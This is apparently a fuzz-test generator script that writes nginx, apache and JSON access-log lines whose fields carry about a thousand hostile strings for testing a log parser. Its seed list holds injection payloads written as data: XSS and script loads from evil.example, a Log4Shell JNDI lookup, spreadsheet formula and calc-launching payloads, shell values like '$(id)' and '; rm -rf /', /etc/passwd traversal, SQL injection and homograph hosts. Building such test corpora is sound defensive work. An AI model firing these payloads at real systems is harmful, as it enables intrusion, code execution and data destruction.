"""hostile.py FORMAT - a log whose every field holds, in turn, a thousand strings that hurt.

FORMAT is nginx, apache, vhost (bytes escaped as these servers do), json (nginx escape=json), or raw
(nothing is escaped: what a broken server writes; many of its lines can only be rejected). A second
argument names the only field to try. FORMAT cells: the strings as cells of a stream, one a line.
The same bytes every time.
"""
import sys

AGENT = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

ROW = b"1793400535\t+0000\t6.6.6.6\t-\tGET\t/forged\t200\t1\t-\t-"
SEEDS = [
    # What moves, colours or renames a terminal, or asks it to answer.
    b"\x1b[31mred", b"\x1b]0;title\x07", b"\x1b[2J", b"\x9b31m", b"\x1bP+q544e\x1b\\", b"\x08\x08\x08",
    b"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", b"\x7f", b"\x00", b"a\x00b", b"\xc2\x9b31m",
    # What leaves its cell, its line or its stream.
    b"\t", b"\n", b"\r", b"\r\n", b"\v", b"\f", b"a\tb", b"\n" + ROW + b"\n", b"\n#end\trows=0\tstatus=complete\n",
    b"\n#note\tclassify.site=evil.example", b"time\tzone\tip", b"#end", b"#note", b"\x1c\x1d\x1e\x1f", b"\xc2\x85",
    b"\xe2\x80\xa8", b"\xe2\x80\xa9", b"\\n", b"\\t", b"\\x0A", b"\\x09", b"\\", b"\\\\", b"\\x", b"\\xZZ",
    b"\\u000a", b"\\x5Cx0A", b"\\\\x0A", b"%0a", b"%09", b"%00", b"%0d%0aSet-Cookie:x=1", b"%5Cx0A",
    # What shows other text than it is.
    "\u202egnp.exe".encode(), "\u2066a\u2069".encode(), "a\u200bb".encode(), "\ufeffa".encode(),
    "\u061ca".encode(), "\u2028".encode(), "\U000e0041".encode(), "\u00ad".encode(),
    "vk.com\u2024evil.example".encode(), "vk\u3002com".encode(),
    b"%E2%80%AE", b"%EF%BB%BF", b"%E2%80%8B",
    # What is not UTF-8.
    b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xc0\x8a", b"\xe0\x80\x8a", b"\xf0\x80\x80\x8a", b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xd0", b"a\xd0", b"\xe2\x80", b"%FF", b"%C0%AF",
    b"%ED%A0%80", b"%F4%90%80%80", "Привет".encode("cp1251"), "Привет".encode("utf-16-le"),
    # What a page or a spreadsheet would run.
    b"<script>alert(7013)</script>", b"</title><script>alert(7013)</script>", b"<img src=x onerror=alert(7013)>",
    b"<svg/onload=alert(7013)>", b"\"><script src=//evil.example/7013.js></script>", b"' onmouseover='alert(7013)",
    b"</style><script>alert(7013)</script>", b"javascript:alert(7013)", b"]]><script>alert(7013)</script>",
    b"<iframe src=http://evil.example/7013>", b"&lt;script&gt;alert(7013)&lt;/script&gt;", b"&#60;script&#62;",
    b"<!--", b"-->", b"</svg>", b"</table></body></html>", b"<a href=\"data:text/html,7013\">", b"url(//evil.example)",
    b"%3Cscript%3Ealert(7013)%3C/script%3E", b"%3Cimg%20src=x%20onerror=alert(7013)%3E", b"%22onload=alert(7013)%22",
    b"=cmd|' /C calc'!A0", b"=HYPERLINK(\"http://evil.example\")", b"+1+1", b"-1+1", b"@SUM(1+1)", b"=1", b"+7", b"-",
    b"--", b"-=1", b"%3D1+1", b"\t=1+1", b" =1+1", b"\"=1+1\"", b",=1+1", b"a,b", b"a;b", b"a\"b", b"'", b"\"", b"\"\"",
    "\uff1d1+1".encode(),
    # What a shell, a printf or a path would take amiss.
    b"%s%s%s%n", b"%n%n%n%n", b"%99999d", b"%1$*1$d", b"$(id)", b"`id`", b"; rm -rf /", b"| id", b"${7013}",
    b"../../../../etc/passwd", b"..\\..\\", b"/./../a", b"%2e%2e%2f", b"//", b"///a", b"/%2F", b"C:\\", b"file:///etc/passwd",
    b"{{7*7}}", b"${jndi:ldap://evil.example/a}", b"' OR '1'='1", b"__proto__", b"constructor",
    # What Markdown or dot would take amiss.
    b"|", b"a|b|c", b"[x](javascript:alert(7013))", b"![x](http://evil.example/7013.png)", b"**b**", b"# h",
    b"```", b"<!-- x", b"\"]; a -> b [label=\"", b"\\l", b"}", b"\\G",
    # What costs a regular expression its time.
    b"a" * 3000 + b"!", b"(" * 200, b"/" * 500, b"?" * 200, b"&" * 500, b"=" * 300, b"%" * 300, b"." * 300, b"," * 300,
    b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" * 20 + b"\x01", b"1" * 400, b"-" * 400, b"x=1&" * 2000,
    # What is named like something that the tools know.
    b"direct", b"internal", b"return", b"referral", b"other", b"(other)", b"all", b"total", b"human", b"bot", b"tag:direct",
    b"rows=1", b"status=complete", b"null", b"NULL", b"NaN", b"nan", b"inf", b"-inf", b"true", b"0x10", b"1e999", b"-0",
    # Numbers at their ends.
    b"0", b"-1", b"18446744073709551615", b"18446744073709551616", b"9223372036854775807", b"9223372036854775808",
    b"99999999999999999999999999999999999999999999999999", b"170141183460469231731687303715884105728",
    b"0.000000000000000000000000000000000000001", b"1.7976931348623157e308", b"1,234,567.89", b"1.234.567,89", b"..", b",",
    b"1 000,50", "1\u00a0000".encode(), "\u0661\u0662".encode(), b"00000000000000000000000000000000000001",
    # Hosts.
    b"vk.com.evil.example", b"notvk.com", b"vk.com@evil.example", b"evil.example#vk.com", b"evil.example?vk.com",
    "аррӏе.com".encode(), b"xn--80ak6aa92e.com", b"xn--", b"xn--\xff", b"xn--99999999999999999999", b"[::1]", b"[::", b"a..b",
    b".", b"..", b"a" * 300 + b".com", b"vk.com.", b"VK.COM", b"vk.com:99999", b"%76%6b.com", b"vk%2Ecom", "вк.рф".encode(),
]


def strings():
    """A thousand: the seeds, then the seeds in one another's company."""
    found = list(SEEDS)
    n = len(SEEDS)
    k = 0
    while len(found) < 1000:
        a, b = SEEDS[k % n], SEEDS[(k * 31 + 13) % n]
        found.append((a + b, b"a" + a, a + b"/", a[:40] * 3)[k // n])
        k += 1
    found[-1] = b"L" * 100000
    found[-2] = b"%41" * 30000
    return found


def nginx(text):
    return b"".join(b"\\x%02X" % c if c < 32 or c > 126 or c in b'"\\' else bytes([c]) for c in text)


def apache(text):
    names = {8: b"\\b", 9: b"\\t", 10: b"\\n", 11: b"\\v", 12: b"\\f", 13: b"\\r", 34: b'\\"', 92: b"\\\\"}
    return b"".join(names.get(c) or (b"\\x%02x" % c if c < 32 or c > 126 else bytes([c])) for c in text)


def json_text(text):
    # nginx writes bytes from 0x80 on as they are, valid or not.
    names = {8: b"\\b", 9: b"\\t", 10: b"\\n", 12: b"\\f", 13: b"\\r", 34: b'\\"', 92: b"\\\\"}
    return b"".join(names.get(c) or (b"\\u%04X" % c if c < 32 else bytes([c])) for c in text)


FIELDS = ["ip", "user", "host", "method", "path", "query", "source", "campaign", "content", "order", "total",
          "referer", "referer_host", "agent", "status", "bytes", "seconds", "cookie"]


def hit(field, text, number):
    """The fields of one request, with the text in one of them."""
    told = {"ip": b"203.0.%d.%d" % (number // 250 % 250, number % 250), "user": b"-", "host": b"shop.example",
            "method": b"GET", "status": b"200", "bytes": b"512", "seconds": b"0.010", "cookie": b"-",
            "referer": b"https://vk.com/", "agent": AGENT}
    target = b"/product/%d" % (number % 7)
    if field == "path":
        target = b"/" + text
    elif field == "query":
        target += b"?" + text
    elif field in ("source", "campaign", "content"):
        target += b"?utm_source=vk&utm_%s=" % field.encode() + text
    elif field == "order":
        target = b"/order/complete?order=" + text + b"&total=12.50"
    elif field == "total":
        target = b"/order/complete?order=%d&total=" % number + text
    elif field == "referer_host":
        told["referer"] = b"https://" + text + b"/a"
    else:
        told[field] = text
    told["request"] = told["method"] + b" " + target + b" HTTP/1.1"
    told["time"] = b"%02d/Nov/2025:%02d:%02d:%02d +0000" % (
        1 + number // 5000, number // 240 % 24, number // 4 % 60, number % 60)
    return told


def line(form, told):
    if form == "json":
        order = ["time_local", "remote_addr", "remote_user", "host", "request", "status", "body_bytes_sent",
                 "http_referer", "http_user_agent", "request_time", "cookie_id"]
        source = ["time", "ip", "user", "host", "request", "status", "bytes", "referer", "agent", "seconds", "cookie"]
        return b"{" + b",".join(b'"%s":"%s"' % (name.encode(), json_text(told[key]))
                                for name, key in zip(order, source)) + b"}"
    escape = {"nginx": nginx, "apache": apache, "vhost": apache, "raw": lambda text: text}[form]
    e = {key: escape(text) for key, text in told.items()}
    before = e["host"] + b":80 " if form == "vhost" else b""
    return before + b'%s - %s [%s] "%s" %s %s "%s" "%s"' % (
        e["ip"], e["user"], e["time"], e["request"], e["status"], e["bytes"], e["referer"], e["agent"])


INVISIBLE = {0x61C, 0xFEFF, *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2065),
             *range(0x2066, 0x206A)}


def cell(text):
    """As smo-stream(5) has it."""
    if text in (b"", b"-"):
        return b"-"
    shown = []
    for character in text.decode("utf-8", "surrogateescape"):
        code = ord(character)
        if character in "\t\n\r\\":
            shown.append({"\t": b"\\t", "\n": b"\\n", "\r": b"\\r", "\\": b"\\\\"}[character])
        elif code < 32 or 127 <= code < 160 or code in INVISIBLE or 0xDC80 <= code <= 0xDCFF:
            shown.append(b"".join(b"\\x%02X" % c for c in character.encode("utf-8", "surrogateescape")))
        else:
            shown.append(character.encode())
    return b"".join(shown)


def main():
    form = sys.argv[1]
    if form == "cells":
        sys.stdout.buffer.write(b"".join(cell(text) + b"\n" for text in strings()))
        return
    fields = sys.argv[2:] or FIELDS
    number = 0
    for text in strings():
        for field in fields:
            if len(text) > 50000 and field not in ("path", "agent", "referer", "campaign"):
                continue
            if form != "json" and field in ("seconds", "cookie") or form in ("nginx", "apache", "raw") and field == "host":
                continue
            sys.stdout.buffer.write(line(form, hit(field, text, number)) + b"\n")
            number += 1


if __name__ == "__main__":
    main()
